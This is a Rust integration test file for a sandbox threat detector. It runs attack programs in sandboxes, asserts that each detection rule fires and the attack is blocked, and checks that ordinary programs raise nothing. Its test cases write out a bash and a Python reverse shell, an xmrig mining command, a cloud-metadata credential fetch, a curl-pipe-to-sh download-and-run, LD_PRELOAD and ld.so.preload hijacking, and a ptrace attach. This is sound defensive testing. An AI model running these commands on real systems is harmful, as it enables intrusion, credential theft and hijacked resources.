//! The threat detector on real sandboxes (native backend, through `Sandbox::builder`):
//!
//! - every built-in rule a program can trigger fires on its attack program: the attack suite's
//!   own programs (`attack::*`, shared with `attacks.rs`) where it has one, and attack programs
//!   written here for the rules it has none for (reverse shells, miners, metadata, `LD_PRELOAD`,
//!   download-and-run, decoded `exec`, `ptrace()`, guard tampering). Each also checks that the
//!   attack got nowhere;
//! - the compatibility suite's ordinary programs (`compat::*`, shared with `compat.rs`) raise no
//!   finding at all.
//!
//! The two egress rules fire on requests the network proxy refused, which reach the detector as
//! the engine's `Network` events (a run with network access to a server on the host's 127.0.0.1,
//! names from a stub resolver; no connection to anything else is opened). Needs root: fails
//! loudly without it.
#![cfg(target_arch = "x86_64")]
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::*;
use vana_sandbox::{
    Engine, ExecutionRequest, ExecutionResult, Finding, Observability, RuleSet, Sandbox, Status,
};

/// Rules shown to fire by `the_egress_rules_fire_on_requests_the_proxy_refused`.
const EGRESS_RULES: &[&str] = &["egress_metadata", "egress_denied"];

/// An attack, the rules it must raise, and what its run must look like.
struct Case {
    name: &'static str,
    language: &'static str,
    /// Python attacks from the attack suite run after its prelude, as there.
    prelude: bool,
    code: &'static str,
    tweak: fn(&mut ExecutionRequest),
    rules: &'static [&'static str],
    check: fn(&ExecutionResult),
}

fn no_tweak(_: &mut ExecutionRequest) {}

/// The probes printed `blocked` and never `ALLOWED`, and the program ran to its end.
fn blocked(r: &ExecutionResult) {
    assert_eq!(r.status, Status::Success, "{r:#?}");
    assert!(!r.output.contains("ALLOWED"), "{}", r.output);
    assert!(r.output.contains("blocked"), "{}", r.output);
}

fn cases() -> Vec<Case> {
    vec![
        // ---- the attack suite's programs
        Case {
            name: "fs-host-secrets",
            language: "python",
            prelude: true,
            code: attack::FS_HOST_SECRETS,
            tweak: no_tweak,
            rules: &["credential_paths", "guard_native_code"],
            check: blocked,
        },
        Case {
            name: "fs-base-read-only",
            language: "python",
            prelude: true,
            code: attack::FS_BASE_READ_ONLY,
            tweak: no_tweak,
            rules: &["guard_write_outside"],
            check: blocked,
        },
        Case {
            name: "fs-proc-root-traversal",
            language: "python",
            prelude: true,
            code: attack::FS_PROC_ROOT_TRAVERSAL,
            tweak: no_tweak,
            rules: &["container_escape", "environ_read", "process_memory"],
            check: blocked,
        },
        Case {
            name: "k-ptrace",
            language: "python",
            prelude: true,
            code: attack::K_PTRACE,
            tweak: no_tweak,
            rules: &["process_memory"],
            check: blocked,
        },
        Case {
            name: "k-32bit-int80",
            language: "python",
            prelude: true,
            code: attack::K_32BIT_INT80,
            tweak: no_tweak,
            rules: &["seccomp_kill"],
            check: |r| assert_eq!((r.status, r.signal), (Status::Killed, Some(31)), "{r:#?}"),
        },
        Case {
            name: "k-cgroup-release-agent",
            language: "python",
            prelude: true,
            code: attack::K_CGROUP_RELEASE_AGENT,
            tweak: no_tweak,
            rules: &["container_escape"],
            check: blocked,
        },
        Case {
            name: "net-dns-resolution",
            language: "python",
            prelude: true,
            code: attack::NET_DNS_RESOLUTION,
            tweak: no_tweak,
            rules: &["guard_network"],
            check: blocked,
        },
        Case {
            name: "r-memory-bomb",
            language: "python",
            prelude: false,
            code: attack::R_MEMORY_BOMB,
            tweak: |r| r.limits = limits(|l| l.memory_mb = Some(48)),
            rules: &["memory_exhaustion"],
            check: |r| assert_eq!(r.status, Status::MemoryLimit, "{r:#?}"),
        },
        Case {
            name: "r-fork-bomb-in-bash",
            language: "bash",
            prelude: false,
            code: attack::R_FORK_BOMB_IN_BASH,
            tweak: |r| {
                r.timeout = Some(3.0);
                r.limits = limits(|l| l.max_processes = Some(24));
            },
            rules: &["fork_bomb_code", "fork_bomb"],
            check: |r| {
                assert_eq!(r.status, Status::Timeout, "{r:#?}");
                assert!(r.resource_usage.processes_peak <= 24, "{r:#?}");
            },
        },
        // ---- attacks the suite has no program for
        Case {
            name: "reverse-shell-bash",
            language: "bash",
            prelude: false,
            code: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
            tweak: no_tweak,
            rules: &["reverse_shell"],
            check: |r| assert_eq!(r.status, Status::Error, "{r:#?}"),
        },
        Case {
            name: "reverse-shell-python",
            language: "python",
            prelude: false,
            code: r#"
import os, pty, socket
s = socket.socket()
try:
    s.connect(("203.0.113.7", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    print("connect ALLOWED")
except OSError:
    print("connect blocked")
try:
    pty.spawn("/bin/sh")
    print("pty ALLOWED")
except OSError:
    print("pty blocked")
"#,
            tweak: no_tweak,
            rules: &["reverse_shell", "guard_subprocess", "guard_network"],
            check: blocked,
        },
        Case {
            name: "crypto-miner",
            language: "bash",
            prelude: false,
            code: "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u WALLET --donate-level 1 || echo 'miner blocked'\n",
            tweak: no_tweak,
            rules: &["crypto_miner"],
            check: blocked,
        },
        Case {
            name: "cloud-metadata",
            language: "python",
            prelude: false,
            code: r#"
import urllib.request
try:
    urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=2)
    print("metadata ALLOWED")
except OSError:
    print("metadata blocked")
"#,
            tweak: no_tweak,
            rules: &["cloud_metadata", "guard_network"],
            check: blocked,
        },
        Case {
            name: "ptrace-attach",
            language: "python",
            prelude: true,
            code: r#"
ctypes.set_errno(0)
r = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to init
print("ptrace attach", "blocked" if r == -1 else "ALLOWED")
"#,
            tweak: no_tweak,
            rules: &["ptrace", "guard_native_code"],
            check: blocked,
        },
        Case {
            name: "ld-preload",
            language: "bash",
            prelude: false,
            code: "printf x > /tmp/hook.so\nLD_PRELOAD=/tmp/hook.so /usr/bin/id -u\n(echo /tmp/hook.so > /etc/ld.so.preload) 2>/dev/null && echo 'ld.so.preload ALLOWED' || echo 'ld.so.preload blocked'\n",
            tweak: no_tweak,
            rules: &["ld_preload"],
            check: blocked,
        },
        Case {
            name: "download-and-run",
            language: "bash",
            prelude: false,
            code: "set -o pipefail\ncurl -fsS --max-time 2 http://get.example.invalid/install.sh | sh && echo 'download ALLOWED' || echo 'download blocked'\n",
            tweak: no_tweak,
            rules: &["download_and_run"],
            check: blocked,
        },
        Case {
            name: "obfuscated-exec",
            language: "python",
            prelude: false,
            code: "import base64\nexec(base64.b64decode('cHJpbnQoJ2RlY29kZWQnKQ=='))\n",
            tweak: no_tweak,
            rules: &["obfuscated_exec"],
            check: |r| assert_eq!((r.status, r.output.as_str()), (Status::Success, "decoded\n")),
        },
        Case {
            name: "guard-tamper",
            language: "python",
            prelude: false,
            code: "import sys\nsys.addaudithook(lambda event, args: None)\nsys.settrace(None)\nprint('the guard still reports')\n",
            tweak: no_tweak,
            rules: &["guard_tamper"],
            check: |r| assert_eq!(r.status, Status::Success, "{r:#?}"),
        },
    ]
}

/// An engine on the native backend with the threat detector, collecting its findings.
fn detecting_engine() -> (
    tokio::runtime::Runtime,
    Engine,
    Observability,
    Arc<Mutex<Vec<Finding>>>,
) {
    require_root();
    let findings: Arc<Mutex<Vec<Finding>>> = Arc::default();
    let sink = findings.clone();
    let obs = Observability::builder()
        .threat_rules(RuleSet::builtin(), "builtin")
        .on_finding(move |f| sink.lock().unwrap().push(f.clone()))
        .start()
        .unwrap();
    let rt = rt();
    let engine = rt
        .block_on(
            Sandbox::builder()
                .compile_cache(None)
                .max_concurrency(2)
                .observability(obs.clone())
                .build(),
        )
        .expect("native engine");
    (rt, engine, obs, findings)
}

fn run_as(
    rt: &tokio::runtime::Runtime,
    engine: &Engine,
    tenant: &str,
    id: &str,
    language: &str,
    code: &str,
    tweak: impl FnOnce(&mut ExecutionRequest),
) -> ExecutionResult {
    let mut r = req(language, code);
    r.id = Some(id.into());
    r.timeout = Some(30.0);
    tweak(&mut r);
    rt.block_on(engine.execute_as(tenant, r)).expect("engine")
}

#[test]
fn every_rule_fires_on_its_attack_program() {
    let _g = serial();
    let (rt, engine, obs, findings) = detecting_engine();
    let cases = cases();
    for c in &cases {
        let code = if c.prelude {
            format!("{}\n{}", attack::PRELUDE, c.code)
        } else {
            c.code.to_string()
        };
        // One tenant per attack, so that no attack adds to another's repeated limit hits.
        let r = run_as(&rt, &engine, c.name, c.name, c.language, &code, c.tweak);
        (c.check)(&r);
    }
    // One tenant whose runs keep hitting a limit.
    for i in 0..5 {
        let r = run_as(
            &rt,
            &engine,
            "prober",
            &format!("prober-{i}"),
            "python",
            attack::R_MEMORY_BOMB,
            |r| r.limits = limits(|l| l.memory_mb = Some(48)),
        );
        assert_eq!(r.status, Status::MemoryLimit, "{r:#?}");
    }
    assert!(obs.flush(Duration::from_secs(30)));
    let findings = findings.lock().unwrap().clone();
    let mut by_run: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for f in &findings {
        assert!(
            !f.explanation.is_empty() && !f.evidence.is_empty(),
            "{f:#?}"
        );
        by_run
            .entry(f.run_id.clone().unwrap_or_default())
            .or_default()
            .insert(f.rule.clone());
    }
    for c in &cases {
        let got = by_run.get(c.name).cloned().unwrap_or_default();
        for rule in c.rules {
            assert!(
                got.contains(*rule),
                "{}: `{rule}` missing from {got:?}",
                c.name
            );
        }
    }
    assert!(
        findings
            .iter()
            .any(|f| f.rule == "repeated_limit_hits" && f.tenant.as_deref() == Some("prober")),
        "{findings:#?}"
    );
    // Every built-in rule a program can trigger was shown to fire.
    let mut shown: BTreeSet<&str> = cases.iter().flat_map(|c| c.rules.iter().copied()).collect();
    shown.insert("repeated_limit_hits");
    shown.extend(EGRESS_RULES.iter().copied());
    let builtin = RuleSet::builtin();
    let all: BTreeSet<&str> = builtin.rules().iter().map(|r| r.id.as_str()).collect();
    assert_eq!(all, shown);
    drop(engine);
    assert_no_leftovers();
}

#[test]
fn the_egress_rules_fire_on_requests_the_proxy_refused() {
    use vana_sandbox::proxy::StubResolver;
    use vana_sandbox::{PolicyConfig, ProxyEgress};

    let _g = serial();
    require_root();
    let findings: Arc<Mutex<Vec<Finding>>> = Arc::default();
    let sink = findings.clone();
    let obs = Observability::builder()
        .threat_rules(RuleSet::builtin(), "builtin")
        .on_finding(move |f| sink.lock().unwrap().push(f.clone()))
        .start()
        .unwrap();
    // `metadata.test` is allowed by name but resolves (stub) to the metadata address: the proxy
    // refuses it after resolution, before any connection. The rest is refused by the rules.
    let resolver = StubResolver::new()
        .answer("metadata.test", &["169.254.169.254".parse().unwrap()])
        .answer("other.test", &["127.0.0.1".parse().unwrap()]);
    let mut policy = PolicyConfig::default();
    policy.network.enabled = true;
    policy.network.allow = vec!["metadata.test:80".into()];
    let rt = rt();
    let engine = rt
        .block_on(
            Sandbox::builder()
                .policy(policy)
                .compile_cache(None)
                .egress(Arc::new(ProxyEgress::with_resolver(Arc::new(resolver))))
                .observability(obs.clone())
                .build(),
        )
        .expect("native engine");
    let code = r#"
import urllib.request, urllib.error
for url in ["http://metadata.test/latest/meta-data/", "http://other.test/", "http://example.invalid/"]:
    try:
        urllib.request.urlopen(url, timeout=10)
        print("ALLOWED", url)
    except urllib.error.HTTPError as e:
        print(e.code, e.headers.get("x-vana-proxy-reason"))
"#;
    let r = run_as(&rt, &engine, "mallory", "egress", "python", code, |r| {
        r.network_access = Some(true)
    });
    assert_eq!(
        (r.status, r.output.as_str()),
        (
            Status::Success,
            "403 metadata_address\n403 not_allowed\n403 not_allowed\n"
        ),
        "{r:#?}"
    );
    assert!(obs.flush(Duration::from_secs(30)));
    let findings = findings.lock().unwrap().clone();
    let got: BTreeSet<(&str, Option<&str>, Option<&str>)> = findings
        .iter()
        .map(|f| (f.rule.as_str(), f.run_id.as_deref(), f.tenant.as_deref()))
        .collect();
    let want: BTreeSet<(&str, Option<&str>, Option<&str>)> = EGRESS_RULES
        .iter()
        .map(|rule| (*rule, Some("egress"), Some("mallory")))
        .collect();
    assert_eq!(got, want, "{findings:#?}");
    let metadata = findings
        .iter()
        .find(|f| f.rule == "egress_metadata")
        .unwrap();
    assert!(
        metadata
            .explanation
            .contains("egress to metadata.test:80 denied (metadata_address)"),
        "{}",
        metadata.explanation
    );
    drop(engine);
    drop(rt);
    assert_no_leftovers();
}

#[test]
fn ordinary_programs_raise_no_finding() {
    let _g = serial();
    let (rt, engine, obs, findings) = detecting_engine();
    let programs: &[(&str, &str, &str, f64, Status)] = &[
        (
            "python-processes-and-threads",
            "python",
            compat::PYTHON_PROCESSES_AND_THREADS,
            30.0,
            Status::Success,
        ),
        (
            "python-asyncio-sqlite-local-tcp",
            "python",
            compat::PYTHON_ASYNCIO_SQLITE_AND_LOCAL_TCP,
            30.0,
            Status::Success,
        ),
        (
            "python-tls-time-zones-interfaces",
            "python",
            compat::PYTHON_TLS_TIME_ZONES_AND_INTERFACES,
            30.0,
            Status::Success,
        ),
        (
            "python-output-before-a-timeout",
            "python",
            compat::PYTHON_OUTPUT_BEFORE_A_TIMEOUT,
            2.0,
            Status::Timeout,
        ),
        (
            "python-output-before-exit",
            "python",
            compat::PYTHON_OUTPUT_BEFORE_EXIT,
            30.0,
            Status::Error,
        ),
        (
            "node-os-workers-fs-crypto",
            "javascript",
            compat::NODE_OS_WORKERS_FS_CRYPTO,
            30.0,
            Status::Success,
        ),
        (
            "go-goroutines-http-client",
            "go",
            compat::GO_GOROUTINES_AND_HTTP_CLIENT,
            30.0,
            Status::Success,
        ),
        (
            "rust-threads",
            "rust",
            compat::RUST_THREADS,
            30.0,
            Status::Success,
        ),
        (
            "bash-pipelines-and-tools",
            "bash",
            compat::BASH_PIPELINES_AND_TOOLS,
            30.0,
            Status::Success,
        ),
    ];
    let mut events = 0;
    for (id, language, code, timeout, status) in programs {
        let r = run_as(&rt, &engine, "compat", id, language, code, |r| {
            r.timeout = Some(*timeout)
        });
        assert_eq!(r.status, *status, "{id}: {r:#?}");
        events += r.security_events.len();
    }
    // The guard reported what the programs did (processes, loopback sockets): the detector saw
    // events and judged them ordinary.
    assert!(events > 0);
    assert!(obs.flush(Duration::from_secs(30)));
    let findings = findings.lock().unwrap();
    assert!(findings.is_empty(), "{findings:#?}");
    drop(engine);
    assert_no_leftovers();
}
